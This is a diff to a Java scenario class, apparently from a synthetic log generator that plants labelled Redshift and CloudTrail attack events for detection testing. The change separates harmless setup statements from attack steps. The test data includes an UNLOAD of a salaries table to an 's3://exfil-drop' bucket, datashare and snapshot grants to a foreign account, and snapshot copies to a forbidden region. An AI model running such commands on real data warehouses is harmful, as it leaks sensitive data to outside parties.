@@ -74,8 +74,8 @@ final class Scenarios {
             case UNLOAD_FOREIGN_BUCKET -> sql(t, "analyst_2", "unload ('select * from finance.salaries') to"
                     + " 's3://exfil-drop-7731/dump_' iam_role 'arn:aws:iam::" + ACCT + ":role/RedshiftUnload';");
             case DATASHARE_FOREIGN_ACCOUNT -> {
-                t = sql(t, "analyst_2", "create datashare salesshare;");
-                t = sql(t, "analyst_2", "alter datashare salesshare add schema finance;");
+                t = setup(t, "analyst_2", "create datashare salesshare;");
+                t = setup(t, "analyst_2", "alter datashare salesshare add schema finance;");
                 yield sql(t, "analyst_2", "grant usage on datashare salesshare to account '"
                         + LogGenerator.FOREIGN_ACCOUNT + "';");
             }
@@ -117,8 +117,9 @@ final class Scenarios {
             case SNAPSHOT_SHARED_FOREIGN -> trail(t, "redshift", "AuthorizeSnapshotAccess",
                     q("snapshotIdentifier", "prod-dw-manual-1") + "," + q("snapshotClusterIdentifier", cluster) + ","
                             + q("accountWithRestoreAccess", LogGenerator.FOREIGN_ACCOUNT));
+            // EEA data (REGION) copied to the US: what the default residency policy forbids.
             case SNAPSHOT_COPY_FORBIDDEN_REGION -> trail(t, "redshift", "EnableSnapshotCopy",
-                    q("clusterIdentifier", cluster) + "," + q("destinationRegion", "ap-east-1")
+                    q("clusterIdentifier", cluster) + "," + q("destinationRegion", "us-east-1")
                             + ",\"retentionPeriod\":7");
             case RETENTION_CUT_THEN_DELETE -> {
                 t = trail(t, "redshift", "ModifyClusterSnapshot", q("snapshotIdentifier", "prod-dw-manual-1")
@@ -145,8 +146,12 @@ final class Scenarios {
     }
 
     private void record(String what) {
+        record(what, true);
+    }
+
+    private void record(String what, boolean attack) {
         long line = type == LogType.CLOUDTRAIL && f.records > 0 ? f.line + 2 : f.nextLine();
-        out.add(new LogGenerator.Injection(current, type, f.path, line, what));
+        out.add(new LogGenerator.Injection(current, type, f.path, line, attack, what));
     }
 
     private void conn(String event, long t, String host, String user, boolean tls, String app) throws IOException {
@@ -155,8 +160,17 @@ final class Scenarios {
     }
 
     private long sql(long t, String user, String sql) throws IOException {
+        return sql(t, user, sql, true);
+    }
+
+    /** A statement the scenario needs that is harmless on its own. */
+    private long setup(long t, String user, String sql) throws IOException {
+        return sql(t, user, sql, false);
+    }
+
+    private long sql(long t, String user, String sql, boolean attack) throws IOException {
         t += 1_000;
-        record(sql);
+        record(sql, attack);
         g.activity(f, t, user, sql);
         return t;
     }
